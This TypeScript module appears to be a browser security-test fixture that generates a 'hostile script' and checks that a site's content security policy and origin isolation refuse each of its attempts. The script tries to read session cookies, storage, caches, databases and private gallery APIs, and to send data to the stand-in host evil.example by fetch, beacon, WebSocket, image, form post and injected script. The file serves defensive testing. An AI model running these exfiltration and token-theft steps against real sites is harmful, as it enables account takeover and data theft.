/** Where the hostile script would send what it finds. */
export const EVIL = 'https://evil.example';

interface Target {
  /** Origin of the product. */
  product: string;
  slug: string;
  galleryId: string;
}

/**
 * Returns a script that tries to reach what is none of its business, and leaves in `window.loot` what each attempt got:
 * `refused` is what every one of them should get.
 */
export function hostileScript({ product, slug, galleryId }: Target): string {
  return `(${attack.toString()})(${JSON.stringify({ product, slug, galleryId, evil: EVIL })})`;
}

/* Runs in the browser: no imports, and nothing of this module's scope. */
function attack({ product, slug, galleryId, evil }: Target & { evil: string }): void {
  const refused = () => 'refused';
  const within = <T>(work: Promise<T>) =>
    Promise.race([work, new Promise<string>((resolve) => setTimeout(resolve, 4_000, 'refused'))]);
  const read = (url: string, options: RequestInit = {}) =>
    fetch(url, { credentials: 'include', ...options }).then(
      async (answer) => (answer.ok ? `${answer.status} ${(await answer.text()).slice(0, 200)}` : 'refused'),
      refused,
    );
  /** Resolves to `refused` once the policy reports the directive. */
  const blocked = (directive: string, act: () => unknown) =>
    new Promise<string>((resolve) => {
      const listen = (event: SecurityPolicyViolationEvent) => {
        if (!event.effectiveDirective.startsWith(directive)) return;
        document.removeEventListener('securitypolicyviolation', listen);
        resolve('refused');
      };
      document.addEventListener('securitypolicyviolation', listen);
      try {
        act();
      } catch {
        resolve('refused');
      }
      setTimeout(resolve, 4_000, 'nothing reported');
    });
  const element = <K extends keyof HTMLElementTagNameMap>(name: K, values: object) =>
    document.body.append(Object.assign(document.createElement(name), values));
  /** The document of a frame or window as far as this script may read it. */
  const documentOf = (open: () => Window | null | undefined) =>
    new Promise<string>((resolve) => {
      const opened = open();
      setTimeout(() => {
        try {
          const text = opened?.document.body.textContent?.trim() ?? '';
          resolve(opened?.location.href === 'about:blank' || text === '' ? 'refused' : text.slice(0, 200));
        } catch {
          resolve('refused');
        }
      }, 2_500);
    });
  const frame = (src: string) =>
    documentOf(() => {
      const made = document.createElement('iframe');
      made.src = src;
      document.body.append(made);
      return made.contentWindow;
    });
  const register = (workers: ServiceWorkerContainer | undefined, url: string) =>
    workers ? workers.register(url).then((one) => one.scope, refused) : Promise.resolve('refused');
  const own = document.querySelector<HTMLElement>('#consent')!.dataset['script']!;
  const empty = (list: readonly unknown[]) => (list.length === 0 ? 'refused' : JSON.stringify(list));
  // A click is a moment ago: the browser lets it open a window of its own origin.
  const popup = window.open('/assets/none.js', 'loot');
  const attempts: Record<string, () => Promise<string>> = {
    cookies: async () => empty(document.cookie.split('; ').filter((one) => /visitor|image_token|sb-/.test(one))),
    cookieStore: async () =>
      'cookieStore' in window
        ? empty((await cookieStore.getAll()).filter(({ name }) => /visitor|image_token/.test(name ?? '')))
        : 'refused',
    'stored tokens': async () => empty(Object.keys(localStorage).filter((key) => key !== 'site-consent')),
    'session storage': async () => empty(Object.keys(sessionStorage)),
    'stored pictures': async () => empty(await caches.keys()),
    databases: async () => {
      const contents = ({ name = '' }: IDBDatabaseInfo) =>
        new Promise<string[]>((resolve) => {
          const request = indexedDB.open(name);
          request.onsuccess = () => resolve([...request.result.objectStoreNames]);
          setTimeout(() => resolve([]), 1_000);
        });
      return empty((await Promise.all((await indexedDB.databases()).map(contents))).flat());
    },
    'workers of galleries': async () => empty(await navigator.serviceWorker.getRegistrations()),
    history: async () =>
      empty((window.navigation?.entries() ?? []).filter(({ url }) => /gallery|invite|token/.test(url ?? ''))),
    opener: async () => (window.opener ? 'an opener' : 'refused'),
    'gallery by API': () => read(`/api/p/${slug}/gallery/${galleryId}`),
    'gallery by page': () =>
      read(`/gallery/${galleryId}`).then((text) => (text.includes('Private') ? text : 'refused')),
    'gallery access': () =>
      read(`/api/p/${galleryId}/galleries/verify`, {
        method: 'POST',
        headers: { 'x-channel': 'public', 'content-type': 'application/json' },
        body: '{}',
      }).then((text) => (text.includes('"granted"') ? text : 'refused')),
    'product API': () => read(`${product}/api/accounts`),
    'product gallery': () => read(`${product}/api/p/${slug}/gallery/${galleryId}`),
    'other origin': () => blocked('connect-src', () => fetch(evil).catch(() => undefined)),
    beacon: () => blocked('connect-src', () => navigator.sendBeacon(evil, 'loot')),
    socket: () => blocked('connect-src', () => new WebSocket(evil.replace('https', 'wss'))),
    picture: () => blocked('img-src', () => (new Image().src = `${evil}/loot`)),
    script: () => blocked('script-src', () => element('script', { src: `${evil}/more.js` })),
    'inline script': () => blocked('script-src', () => element('script', { text: 'window.inline = 1' })),
    // oxlint-disable-next-line no-eval -- what the page's policy has to refuse
    evaluation: () => blocked('script-src', () => (0, eval)('1')),
    handler: () => blocked('script-src', () => document.body.insertAdjacentHTML('beforeend', '<img src onerror="1">')),
    form: () =>
      blocked('form-action', () => {
        const form = Object.assign(document.createElement('form'), { action: `${evil}/loot`, method: 'post' });
        document.body.append(form);
        form.submit();
      }),
    base: () => blocked('base-uri', () => element('base', { href: evil })),
    object: () => blocked('object-src', () => element('object', { data: `${evil}/x`, type: 'text/html' })),
    worker: () => blocked('worker-src', () => new Worker(own)),
    'own service worker': () => register(navigator.serviceWorker, own),
    'gallery service worker': () => register(navigator.serviceWorker, '/gallery-sw.js'),
    'service worker by another window': async () => {
      await new Promise((resolve) => setTimeout(resolve, 1_500));
      try {
        const workers = popup?.navigator.serviceWorker;
        return `${await register(workers, own)} ${await register(workers, '/gallery-sw.js')}`.replace(/^refused /, '');
      } catch {
        return 'refused';
      }
    },
    'frame of a page': () => frame('/about'),
    'frame of a gallery': () => frame(`/gallery/${galleryId}`),
    'frame of the product': () => frame(`${product}/app`),
    'window of the product': () => documentOf(() => window.open(`${product}/app`)),
  };
  const loot: Record<string, string> = {};
  void Promise.all(
    Object.entries(attempts).map(async ([name, attempt]) => {
      try {
        loot[name] = await within(attempt());
      } catch {
        loot[name] = 'refused';
      }
    }),
  ).then(() => Object.assign(window, { loot }));
}
